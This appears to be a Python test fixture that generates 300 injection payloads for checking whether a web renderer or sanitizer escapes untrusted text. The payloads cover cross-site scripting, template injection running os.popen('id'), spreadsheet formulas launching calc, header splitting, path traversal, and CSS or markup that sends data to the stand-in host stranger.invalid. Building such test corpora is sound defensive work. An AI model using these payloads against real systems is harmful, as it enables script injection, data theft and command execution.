# ruff: noqa: E501
"""Three hundred texts that try to be more than text, of our own writing; `hit` is what they try to run.

Where one works, the browser calls `hit`, opens a dialog, asks a stranger for something, or complains that the policy of
the page stopped it. The last is a failure too: the policy is the second wall, not the first.
"""

from __future__ import annotations

from itertools import product

STRANGER = "stranger.invalid"

_TAGS = ("img src=x", "svg", "video src=x", "audio src=x", "body", "details open", "input autofocus", "iframe", "object data=x",
         "marquee", "select autofocus", "style", "link rel=stylesheet href=x", "a href=# id=x tabindex=1")  # fmt: skip
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart")
_BREAKS = ('">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</q></bdi>", "`>")
_SCHEMES = ("javascript:hit(1)", "JaVaScRiPt:hit(2)", "java\tscript:hit(3)", "&#106;avascript:hit(4)", "\x01javascript:hit(5)",
            "vbscript:hit(6)", "data:text/html,<script>hit(7)</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
            "javascript://%0ahit(8)", "//" + STRANGER + "/x", "\\\\" + STRANGER + "\\x", "https:" + STRANGER,
            "view-source:javascript:hit(9)", "feed:javascript:hit(10)", "blob:hit", "filesystem:hit")  # fmt: skip

SCRIPTS = (
    "<script>hit(1)</script>", "<SCRIPT>hit(2)</SCRIPT>", "<script src=//stranger.invalid/a.js></script>",
    "<script\n>hit(3)</script\n>", "<scr<script>ipt>hit(4)</scr</script>ipt>", "<script type=module>hit(5)</script>",
    "<svg><script>hit(6)</script></svg>", "<svg><script xlink:href=data:,hit(7) /></svg>", "<math><mtext><script>hit(8)</script>",
    "<noscript><p title='</noscript><script>hit(9)</script>'>", "<template><script>hit(10)</script></template>",
    "<!--><script>hit(11)</script>-->", "<![CDATA[<script>hit(12)</script>]]>", "<?xml version='1'?><script>hit(13)</script>",
    "<xmp><script>hit(14)</script></xmp>", "<plaintext><script>hit(15)", "＜script＞hit(16)＜/script＞",
    "%3Cscript%3Ehit(17)%3C/script%3E", "&lt;script&gt;hit(18)&lt;/script&gt;", "&#60;script&#62;hit(19)&#60;/script&#62;",
    "\\x3cscript\\x3ehit(20)\\x3c/script\\x3e", "\\u003cscript\\u003ehit(21)\\u003c/script\\u003e", "+ADw-script+AD4-hit(22)+ADw-/script+AD4-",
    "</script><script>hit(23)</script>", "';hit(24);//", '";hit(25);//', "`;hit(26);//", "${hit(27)}", "\u2028hit(28)\u2029",
    "<script>/*", "*/hit(29)</script>", "<script nonce=x>hit(30)</script>",
)  # fmt: skip
MARKUP = (
    "<h1>Not a heading</h1>", "<base href=//stranger.invalid/>", "<meta http-equiv=refresh content='0;url=//stranger.invalid/'>",
    "<meta http-equiv=Set-Cookie content=a=b>", "<form action=//stranger.invalid/><button>Go</button></form>",
    "<input name=csrf value=x>", "<iframe src=//stranger.invalid/></iframe>", "<iframe srcdoc='<script>hit(1)</script>'></iframe>",
    "<object data=//stranger.invalid/></object>", "<embed src=//stranger.invalid/>", "<img src=//stranger.invalid/p.png>",
    "<img srcset='//stranger.invalid/p.png 1x'>", "<picture><source srcset=//stranger.invalid/p.png></picture>",
    "<video poster=//stranger.invalid/p.png></video>", "<link rel=prefetch href=//stranger.invalid/>", "<link rel=preconnect href=//stranger.invalid/>",
    "<a href=javascript:hit(2)>Read on</a>", "<a href=//stranger.invalid/ ping=//stranger.invalid/>x</a>", "</main></body></html>",
    "</div></div></div></section></article>", "</table><table background=//stranger.invalid/>", "<dialog open>Sign in again</dialog>",
    "<div hx-get=//stranger.invalid/ hx-trigger=load>x</div>", "<div hx-on::load=hit(3)>x</div>", "<p data-stop data-key=a>x</p>",
    "<button data-opens=keys>x</button>", "<b>bold", "<i", "<", ">", "&", "&amp", "&#0;", "&#x110000;", "<!doctype html>", "<frameset onload=hit(4)>",
    "<math href=javascript:hit(5)>x</math>", "<svg><use href=//stranger.invalid/#x></svg>", "<svg><foreignObject><body onload=hit(6)></svg>",
    "<svg><animate onbegin=hit(7) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:hit(8)>", "<isindex action=javascript:hit(9)>",
    "<keygen autofocus onfocus=hit(10)>", "<portal src=//stranger.invalid/>", "<slot name=x>", "<x-frame onclick=hit(11)>", "<a name=content>", "<img id=keys name=getElementById>",
)  # fmt: skip
BIDI = (
    "\u202egnp.exe", "\u202dabc\u202c", "\u2066x\u2069", "\u2067x", "\u2068x", "\u2069\u2069\u2069", "\u200f!", "\u200e?", "\u061ca",
    "seven \u202e321\u202c dead", "a\u202eb\u2066c\u202cd", "// \u202e } \u2066if (admin)\u2069 \u2066 begin", "\u202b\u202b\u202b\u202b", "\u202anot closed",
    "مرحبا <b>\u202ex</b>", "שלום\u202d\u202e", "\u200fhttps://stranger.invalid", "user\u202emoc.elgoog", "\u2067'><img src=x onerror=hit(1)>\u2069", "\u202e<script>hit(2)</script>",
)  # fmt: skip
UNSEEN = (
    "zero\u200bwidth", "\u200b<script>hit(1)</script>", "jo\u200din\u200cer", "\ufeffbyte order", "soft\u00adhyphen", "\u2060word joiner", "\u180emongolian",
    "tag\U000e0041\U000e0042s", "\ufff9anno\ufffatation\ufffb", "\ufffe", "\uffff", "lone \ud800", "\x07bell", "\x08back", "\x0cfeed", "\x0bvertical", "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07", "\x1b]8;;https://stranger.invalid\x1b\\link\x1b]8;;\x1b\\", "\x1b[2J\x1b[H", "\x9b31mred", "\x90dcs\x9c", "\x7fdelete", "a\rb", "\x85next line", "\x1b[6n",
    "e" + "\u0301" * 60, "\U0001f1fa\U0001f1e6", "ﷺﷺﷺ", "\u115f\u1160\u3164",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0", "@SUM(1+1)*cmd|'/c calc'!A0", '=HYPERLINK("https://stranger.invalid","x")',
    '=IMPORTXML("https://stranger.invalid","//a")', '=WEBSERVICE("https://stranger.invalid")', "\t=1+1", "\r=1+1", '"=1+1"', "=1+1;", "＝1+1", "=DDE(\"x\";\"y\")",
    '=IMAGE("https://stranger.invalid/p.png")', "|calc", "%0A=1+1", "'=1+1", "=+=1", "@=1",
)  # fmt: skip
TEMPLATES = (
    "{{7*191}}", "{{7*'191'}}", "${7*191}", "#{7*191}", "<%= 7*191 %>", "{% print(7*191) %}", "{% include '/etc/passwd' %}", "{{config}}", "{{frame.csrf}}", "{{page}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "{{cycler.__init__.__globals__.os.popen('id').read()}}", "{#", "#}{{7*191}}", "{% endraw %}{{7*191}}", "@(7*191)", "[[${7*191}]]",
    "*{7*191}", "{{constructor.constructor('hit(1)')()}}", "%(csrf)s {csrf} {0.__class__}", "{page.__init__.__globals__}", "{{=7*191}}", "<#assign x=7*191>${x}", "#set($x=7*191)$x",
)  # fmt: skip
STYLES = (
    "<style>*{background:url(//stranger.invalid/)}</style>", "<style>@import '//stranger.invalid/a.css';</style>", "<p style=background:url(//stranger.invalid/)>", "</style><script>hit(1)</script>",
    "<div style=position:fixed;inset:0>over all</div>", "expression(hit(2))", "}body{display:none}", "url(javascript:hit(3))", "\\65xpression(hit(4))", "@font-face{src:url(//stranger.invalid/f)}",
    "<style>input[value^=a]{background:url(//stranger.invalid/a)}</style>", "<p class='unseen control' hidden>", "-moz-binding:url(//stranger.invalid/x)", "<link rel=stylesheet href=//stranger.invalid/a.css>",
)  # fmt: skip
SPLITS = (
    "x\r\nX-Injected: yes", "x\nX-Injected: yes", "x%0d%0aX-Injected: yes", "x\r\n\r\n<script>hit(1)</script>", "x\u560d\u560aX-Injected: yes", "x\r\nSet-Cookie: a=b",
    "x\r\nLocation: //stranger.invalid", 'x"; filename="y.exe', "x; charset=utf-7", "x\0y", "../../etc/passwd", "..\\..\\boot.ini", "CON", "x#y?z=1&csrf=2", "%2e%2e%2f", "/s/../enter?token=x",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:hit(1))", "![x](//stranger.invalid/p.png)", "<javascript:hit(2)>", "[x]: javascript:hit(3)", "[x](data:text/html,<script>hit(4)</script>)", "```\n<script>hit(5)</script>",
    "# heading", "| a | b |", "* * *", "> quote\n<img src=x onerror=hit(6)>", "[r:1234:0-9]", "\\<script>hit(7)</script>", "<https://stranger.invalid>", "$$\\href{javascript:hit(8)}{x}$$", "[x](<javascript:hit(9)>)", "***",
)  # fmt: skip

_LISTED = (*SCRIPTS, *MARKUP, *BIDI, *UNSEEN, *FORMULAS, *TEMPLATES, *STYLES, *SPLITS, *MARKDOWN, *_SCHEMES)
_MADE = tuple(
    f"{broken}<{tag} {event}=hit({number})>"
    for number, (broken, tag, event) in enumerate(
        (_BREAKS[place % len(_BREAKS)], tag, event) for place, (tag, event) in enumerate(product(_TAGS, _EVENTS))
    )
)
PAYLOADS: tuple[str, ...] = (*_LISTED, *_MADE)[:300]
